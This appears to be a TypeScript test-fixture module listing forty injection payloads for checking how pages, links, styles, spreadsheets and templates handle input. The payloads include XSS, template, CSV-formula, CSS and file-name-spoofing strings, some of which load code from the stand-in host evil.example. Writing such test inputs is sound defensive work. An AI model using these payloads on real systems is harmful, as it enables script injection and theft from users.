/**
 * Forty texts that become code or markup where a page, a link, a style, a spreadsheet or a template takes a text for
 * anything else. `alert` and requests to `evil.example` show it.
 */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/2.js></script>',
  '</script><script>alert(3)</script>',
  '</title><script>alert(4)</script>',
  '</textarea><img src=x onerror=alert(5)>',
  '<img src=x onerror=alert(6)>',
  `'"><img src=x onerror=alert(7)>`,
  '<img src=//evil.example/8.png>',
  '<svg onload=alert(9)>',
  '<svg><script>alert(10)</script></svg>',
  '<svg><animate onbegin=alert(11) attributeName=x>',
  '<math><mi//xlink:href="data:x,<script>alert(12)</script>">',
  '<body onload=alert(13)>',
  '<iframe src=javascript:alert(14)>',
  '<iframe srcdoc="<script>alert(15)</script>">',
  '<object data=//evil.example/16>',
  '<embed src=//evil.example/17>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/20.css>',
  '<style>@import url(//evil.example/21.css);</style>',
  '<details open ontoggle=alert(22)>',
  '<input autofocus onfocus=alert(23)>',
  '<a href=javascript:alert(24)>click</a>',
  'javascript:alert(25)',
  'JaVaScRiPt://%0aalert(26)',
  'data:text/html,<script>alert(27)</script>',
  '//evil.example/28',
  '<video><source onerror=alert(29)>',
  '<form action=//evil.example><button>Send</button></form>',
  '&lt;script&gt;alert(31)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(32)&#62;',
  '\\u003cscript\\u003ealert(33)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(34)")()}}',
  '${alert(35)}',
  '[click](javascript:alert(36)) ![x](//evil.example/36.png)',
  '","admin":true,"x":"</script>',
  '=HYPERLINK("http://evil.example/38","Click")',
  'red;background:url(//evil.example/39.png)',
  `gnp.\u202Eexe\u2066 ${'W'.repeat(150)} <marquee>x</marquee>\u200B`,
]

/**
 * All of them in as few texts of at most `most` characters as possible; those that are longer are left out. The last
 * one is alone: some fields refuse its controls.
 */
export function packed(most: number): string[] {
  const texts: string[] = []
  for (const payload of payloads.filter(({ length }) => length <= most)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most && payload !== payloads.at(-1))
      texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}

/** A text as it can be read in a page: without controls of direction, and with white space as it is drawn. */
export const readable = (text: string): string =>
  text
    .replace(/[\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/gu, '')
    .replace(/\s+/gu, ' ')
    .trim()
